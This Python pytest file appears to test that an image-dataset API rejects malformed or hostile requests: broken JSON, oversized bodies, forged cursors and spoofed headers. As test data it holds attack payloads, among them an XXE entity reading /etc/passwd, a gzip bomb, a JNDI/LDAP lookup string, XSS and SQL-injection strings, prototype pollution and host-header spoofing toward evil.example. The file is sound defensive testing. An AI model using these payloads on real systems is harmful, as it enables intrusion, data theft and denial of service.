"""Rows J: what is no plain JSON object, or one of another shape than it should have; each is refused by name.

One code, `malformed_json`, stands for whatever two readers of JSON could read differently: its words say what it was.
"""

from __future__ import annotations

import gzip
import json
from typing import Any

import pytest

from maskmill.core.limits import BODY_BYTES_MAX
from tests.hostile.corpus import Bad, Shop, base64url, check, malformed, wrong
from tests.unit.lambdas.gateway import Answer


def named(name: bytes) -> bytes:
    return b'{"name": ' + name + b"}"


def filled(size_bytes: int) -> bytes:
    """A body of so many bytes."""
    head, tail = b'{"name": "', b'"}'
    return head + b"x" * (size_bytes - len(head) - len(tail)) + tail


def keys(count: int) -> bytes:
    return json.dumps({f"k{number}": 1 for number in range(count)}, separators=(",", ":")).encode()


def too_large(what: str, body: bytes | str) -> Bad:
    def send(shop: Shop) -> Answer:
        return shop.make_of(body) if isinstance(body, bytes) else shop.make(body)

    return Bad(what, send, 413, "body_too_large")


def media_type(what: str, content_type: str, body: str = '{"name": "x"}') -> Bad:
    return Bad(
        what,
        lambda shop: shop.make(body, content_type=content_type),
        415,
        "unsupported_media_type",
        ("/Content-Type",),
    )


def packed(what: str, encoding: str, data: bytes) -> Bad:
    def send(shop: Shop) -> Answer:
        return shop.api.call("POST", "/datasets", data.hex(), headers={"content-encoding": encoding})

    return Bad(what, send, 415, "unsupported_media_type", ("/Content-Encoding",))


def limit(value: str, path: str = "") -> Bad:
    return wrong(f"a limit of {value!r}", lambda shop: shop.images(limit=value), "/limit")


def cursor(what: str, value: str) -> Bad:
    return Bad(what, lambda shop: shop.images(cursor=value), 400, "invalid_cursor")


def cursor_of_another_tenant(shop: Shop) -> Answer:
    return shop.api.get("/datasets", cursor=shop.other.get("/datasets", limit="1").json["next_cursor"])


def cursor_of_another_list(shop: Shop) -> Answer:
    return shop.images(cursor=shop.api.get("/datasets", limit="1").json["next_cursor"])


def cursor_of_another_filter(shop: Shop) -> Answer:
    return shop.images(status="ready", cursor=shop.images(limit="1").json["next_cursor"])


def cursor_with_one_bit_changed(shop: Shop) -> Answer:
    found = shop.images(limit="1").json["next_cursor"]
    return shop.images(cursor=("A" if found[0] != "A" else "B") + found[1:])


def cursor_that_goes_further(shop: Shop) -> Answer:
    return shop.images(cursor=shop.images(limit="1").json["next_cursor"] + base64url("~"))


X = "/prompt/points/0/x"
BAD: dict[str, Bad] = {
    "J1a": malformed("nothing", b""),
    "J1b": malformed("null", b"null"),
    "J1c": malformed("a list", b"[]"),
    "J1d": malformed("a text", b'"name"'),
    "J1e": malformed("a number", b"1"),
    "J1f": malformed("a blank", b"  \n"),
    "J1g": Bad("no body at all", lambda shop: shop.make(None), 400, "malformed_json"),
    "J2a": malformed("cut off", b'{"name": "a"'),
    "J2b": malformed("two objects", b'{"name": "a"} {"name": "b"}'),
    "J2c": malformed("a byte order mark", b'\xef\xbb\xbf{"name": "a"}'),
    "J2d": malformed("UTF-16", '{"name": "a"}'.encode("utf-16")),
    "J2e": malformed("UTF-16 without a mark", '{"name": "a"}'.encode("utf-16-le")),
    "J2f": malformed("UTF-32", '{"name": "a"}'.encode("utf-32")),
    "J2g": malformed("Latin-1", '{"name": "ä"}'.encode("latin-1")),
    "J2h": malformed("more bytes than a character needs", named(b'"\xc0\xaf"')),
    "J2i": malformed("a comment", b'{"name": "a"} // why'),
    "J2j": malformed("a comma too many", b'{"name": "a",}'),
    "J2k": malformed("other quotes", b"{'name': 'a'}"),
    "J2l": malformed("a raw control character", named(b'"a\x01"')),
    "J2m": malformed("a form", b"name=a"),
    "J2n": Bad(
        "said to be base64 and none",
        lambda shop: shop.api.call("POST", "/datasets", "not base64!", is_base64=True),
        400,
        "malformed_json",
    ),
    "J3a": malformed("no number", named(b"NaN")),
    "J3b": malformed("endless", named(b"Infinity")),
    "J3c": malformed("endless the other way", named(b"-Infinity")),
    "J3d": malformed("larger than numbers are", named(b"1e999")),
    "J3e": malformed("smaller than numbers are", named(b"-1e999")),
    "J3f": Bad(
        "no number below",
        lambda shop: shop.api.post(
            f"/datasets/{shop.dataset}/templates", '{"name":"x","prompt":{"points":[{"x":NaN,"y":0}]}}'
        ),
        400,
        "malformed_json",
    ),
    "J4a": malformed("a key twice", b'{"name": "a", "name": "b"}'),
    "J4b": malformed("a key twice below", b'{"name": {"x": 1, "x": 2}}'),
    "J4c": malformed("a key twice, once in other words", b'{"name": "a", "n\\u0061me": "b"}'),
    "J4d": malformed("another tenant twice", b'{"name": "a", "tenant": "A", "tenant": "B"}'),
    "J5a": malformed("100,000 lists", b"[" * 100_000),
    "J5b": malformed("100,000 lists inside, closed", named(b"[" * 100_000 + b"]" * 100_000)),
    "J5c": malformed("30,000 objects", b'{"a":' * 30_000 + b"1" + b"}" * 30_000),
    "J5d": malformed("one too deep", b'{"a":' * 33 + b"1" + b"}" * 33),
    "J6a": malformed("5,000 digits", named(b"9" * 5_000)),
    "J6b": malformed("more than 64 bits", named(b"9" * 21)),
    "J6c": malformed("fewer than 64 bits", named(b"-" + b"9" * 21)),
    "J7a": malformed("half a character", named(b'"\\ud800"')),
    "J7b": malformed("half a character in a key", b'{"\\udfff": 1}'),
    "J7c": malformed("two halves the wrong way round", named(b'"\\udc00\\ud800"')),
    "J7d": malformed("half a character in bytes", named(b'"\xed\xa0\x80"')),
    "J7e": Bad("half a character in the event", lambda shop: shop.make('{"name": "\ud800"}'), 400, "malformed_json"),
    "J8a": wrong("a zero byte", lambda shop: shop.make({"name": "a\0"}), "/name"),
    "J8b": wrong("a line break", lambda shop: shop.make({"name": "a\nb"}), "/name"),
    "J8c": wrong("an escape sequence", lambda shop: shop.make({"name": "a\x1b[31m"}), "/name"),
    "J8d": wrong("a line separator", lambda shop: shop.make({"name": "a\u2028b"}), "/name"),
    "J8e": wrong("a writing that turns round", lambda shop: shop.make({"name": "\u202egnp.exe"}), "/name"),
    "J8f": wrong("a next line", lambda shop: shop.make({"name": "a\x85b"}), "/name"),
    "J8g": wrong("a name of blanks", lambda shop: shop.make({"name": " \t "}), "/name"),
    "J9a": wrong("true as a number", lambda shop: shop.point_of(x=True), X),
    "J9b": wrong("false as a number", lambda shop: shop.point_of(x=False), X),
    "J9c": wrong("1 as true", lambda shop: shop.point_of(positive=1), "/prompt/points/0/positive"),
    "J9d": wrong("yes as true", lambda shop: shop.point_of(positive="yes"), "/prompt/points/0/positive"),
    "J9e": wrong("true as an integer", lambda shop: shop.job_of(seed=True), "/recipe/seed"),
    "J9f": wrong("null as a number", lambda shop: shop.point_of(x=None), X),
    "J10a": wrong("a number in quotes", lambda shop: shop.point_of(x="0.5"), X),
    "J10b": wrong("full-width digits", lambda shop: shop.point_of(x="１"), X),
    "J10c": wrong("a number in quotes where an integer is wanted", lambda shop: shop.job_of(seed="1"), "/recipe/seed"),
    "J10d": wrong("a fraction as an integer", lambda shop: shop.job_of(samples_per_image=1.5), "/recipe/samples_per_image"),
    "J10e": wrong("a number as a choice", lambda shop: shop.template_of(choice=1), "/choice"),
    "J10f": wrong("NaN in quotes", lambda shop: shop.point_of(x="NaN"), X),
    "J10g": wrong("a number as a name", lambda shop: shop.make({"name": 5}), "/name"),
    "J10h": wrong("a list as an object", lambda shop: shop.template_of(refinement=[]), "/refinement"),
    "J11a": wrong("another tenant", lambda shop: shop.make({"name": "a", "tenant": "b"}), "/tenant"),
    "J11b": wrong("another tenant's id", lambda shop: shop.make({"name": "a", "tenant_id": "b"}), "/tenant_id"),
    "J11c": wrong("a status", lambda shop: shop.make({"name": "a", "status": "active"}), "/status"),
    "J11d": wrong("a role", lambda shop: shop.make({"name": "a", "role": "admin"}), "/role"),
    "J11e": wrong("a row's keys", lambda shop: shop.make({"name": "a", "pk": "T#b", "sk": "c"}), "/pk", "/sk"),
    "J11f": wrong("an id of one's own", lambda shop: shop.make({"name": "a", "dataset_id": "d"}), "/dataset_id"),
    "J11g": wrong("a field too many below", lambda shop: shop.point_of(z=1), "/prompt/points/0/z"),
    "J11h": wrong("a job's status", lambda shop: shop.job_of(body={"status": "succeeded"}), "/status"),
    "J11i": wrong("a recipe's segmenter", lambda shop: shop.job_of(segmenter="mine"), "/recipe/segmenter"),
    "J11j": wrong("a webhook's secret", lambda shop: shop.webhook_of("https://a.example/", secret="s"), "/secret"),
    "J11k": wrong("an upload's key", lambda shop: shop.upload_of(key="t/b/c"), "/files/0/key"),
    "J11l": wrong("a name that a pointer escapes", lambda shop: shop.template_of(**{"a/b~c": 1}), "/a~1b~0c"),
    "J12a": too_large("one byte too many", filled(BODY_BYTES_MAX + 1)),
    "J12b": too_large("one byte too many as text", filled(BODY_BYTES_MAX + 1).decode()),
    "J12c": too_large("6 MB", filled(6_000_000)),
    "J12d": too_large("10 MB as text", filled(10_000_000).decode()),
    "J12e": too_large("few characters of many bytes", json.dumps({"name": "ä" * 140_000}, ensure_ascii=False)),
    "J12f": wrong("as large as may be", lambda shop: shop.make_of(filled(BODY_BYTES_MAX)), "/name"),
    "J13a": media_type("a form", "application/x-www-form-urlencoded", "name=x"),
    "J13b": media_type("text", "text/plain"),
    "J13c": media_type("parts", "multipart/form-data; boundary=x"),
    "J13d": media_type("no type", ""),
    "J13e": media_type("another alphabet", "application/json; charset=latin-1"),
    "J13f": media_type("a type that begins alike", "application/jsonx"),
    "J13g": media_type("XML", "application/xml", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"),
    "J13h": packed("packed", "gzip", gzip.compress(b'{"name": "x"}')),
    "J13i": packed("a bomb", "gzip", gzip.compress(b" " * 50_000_000)),
    "J13j": packed("packed twice", "gzip, gzip", gzip.compress(gzip.compress(b'{"name": "x"}'))),
    "J13k": packed("packed otherwise", "br", b"x"),
    "J14a": too_large("a million keys", keys(1_000_000)),
    "J14b": too_large("a key of 1 MB", b'{"' + b"k" * 1_000_000 + b'": 1}'),
    "J14c": wrong(
        "20,000 keys", lambda shop: shop.make_of(keys(20_000)), "/name", *(f"/k{number}" for number in range(49))
    ),
    "J14d": wrong("a key of 200 KB", lambda shop: shop.make({"name": "x", "k" * 200_000: 1}), "/" + "k" * 99 + "…"),
    "J15a": wrong("a prototype", lambda shop: shop.make({"name": "a", "__proto__": {"admin": True}}), "/__proto__"),
    "J15b": wrong("a reference as a name", lambda shop: shop.make({"name": {"$ref": "#"}}), "/name"),
    "J15c": wrong("a constructor", lambda shop: shop.make({"name": "a", "constructor": {}}), "/constructor"),
    "J15d": wrong("a query for a name", lambda shop: shop.make({"name": {"$ne": None}}), "/name"),
    "J16a": malformed("more than a decimal holds", named(b"1e400")),
    "J16b": wrong("a number of 300 digits", lambda shop: shop.point_of(x=1e300), X),
    "J16c": wrong("beyond 64 bits with sign", lambda shop: shop.job_of(seed=2**63), "/recipe/seed"),
    "J17a": limit("0"),
    "J17b": limit("-1"),
    "J17c": limit("1e9"),
    "J17d": limit("99999999999"),
    "J17e": limit("1,2"),  # what the gateway makes of `limit=1&limit=2`
    "J17f": limit(""),
    "J17g": limit("１"),
    "J17h": limit("٥"),
    "J17i": limit(" 5"),
    "J17j": limit("101"),
    "J17k": limit("1.5"),
    "J17l": limit("1\n"),
    "J17m": wrong("a status twice", lambda shop: shop.images(status="ready,refused"), "/status"),
    "J17n": wrong("an unknown status", lambda shop: shop.images(status="READY"), "/status"),
    "J17o": wrong("no status", lambda shop: shop.images(status=""), "/status"),
    "J17p": cursor("no cursor", ""),
    "J17q": cursor("no base64", "!"),
    "J17r": cursor("longer than any", "A" * 5_000),
    "J17s": cursor("other letters", "ä"),
    "J17t": cursor("a key of a row", base64url("T#other#D#x")),
    "J17u": cursor("a path", base64url("../../x")),
    "J17v": cursor("a position of another shape", base64url('["2026","T#ü","x"]')),
    "J17w": cursor("a seal of one's own", base64url(b"\0\1" + b"s" * 16 + b"IMAGE#x")),
    "J17x": Bad("of another tenant", cursor_of_another_tenant, 400, "invalid_cursor"),
    "J17y": Bad("of another list", cursor_of_another_list, 400, "invalid_cursor"),
    "J17z": Bad("of another filter", cursor_of_another_filter, 400, "invalid_cursor"),
    "J17za": Bad("with one bit changed", cursor_with_one_bit_changed, 400, "invalid_cursor"),
    "J17zb": Bad("made longer", cursor_that_goes_further, 400, "invalid_cursor"),
    "J17zc": cursor("two of them", "of-nobody,of-nobody"),
}  # fmt: skip


@pytest.mark.parametrize("row", BAD)
def test_a_body_or_a_query_of_another_shape_is_refused(shop: Shop, row: str) -> None:
    check(shop, BAD[row])


ODD: dict[str, dict[str, Any]] = {
    "J15e": {"name": "{{7*7}} ${jndi:ldap://a.example/x} <%= 1 %>"},
    "J15f": {"name": "</script><script>alert(1)</script>"},
    "J15g": {"name": "'; DROP TABLE datasets; --"},
}


@pytest.mark.parametrize("row", ODD)
def test_a_text_that_another_program_would_run_is_data(shop: Shop, row: str) -> None:
    answer = shop.make(ODD[row])
    assert (answer.status, answer.json["name"]) == (201, ODD[row]["name"])
    assert answer.headers["Content-Type"] == "application/json"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


NUMBERS = {"J16d": 5e-324, "J16e": 1e-200, "J16f": -0.0, "J16g": 0.1234567890123456789}


@pytest.mark.parametrize("row", NUMBERS)
def test_a_number_that_the_store_could_not_hold_comes_back_as_it_was(shop: Shop, row: str) -> None:
    answer = shop.prompt_of(points=[{"x": NUMBERS[row], "y": 0.5}])
    assert answer.status == 201, answer.text
    read = shop.api.get(f"/datasets/{shop.dataset}/templates/{answer.json['template_id']}")
    assert read.json["prompt"]["points"][0]["x"] == NUMBERS[row]


HEADERS = {
    "J18a": {"x-http-method-override": "DELETE"},
    "J18b": {"x-method-override": "POST"},
    "J18c": {"x-original-url": "/api/v1/health", "x-rewrite-url": "/api/v1/health"},
    "J18d": {"x-forwarded-host": "evil.example", "x-forwarded-prefix": "/../.."},
    "J18e": {"host": "evil.example", "origin": "https://evil.example"},
    "J18f": {"accept": "text/html"},
    "J18g": {"x-long": "a" * 6_000},
    "J18h": {"x-tenant-id": "other", "x-amzn-oidc-identity": "other", "x-forwarded-user": "other"},
    "J18i": {"range": "bytes=0-3", "if-match": "x", "if-modified-since": "Sat, 21 Nov 2026 00:00:00 GMT"},
    "J18j": {"transfer-encoding": "chunked", "content-length": "5", "expect": "100-continue"},
}


@pytest.mark.parametrize("row", HEADERS)
def test_a_header_makes_no_other_request_of_one(shop: Shop, row: str) -> None:
    path = f"/datasets/{shop.dataset}"
    plain = shop.api.get(path)
    answer = shop.api.call("GET", path, headers=HEADERS[row])
    assert (answer.status, answer.text) == (200, plain.text)
    assert set(answer.headers) == set(plain.headers)
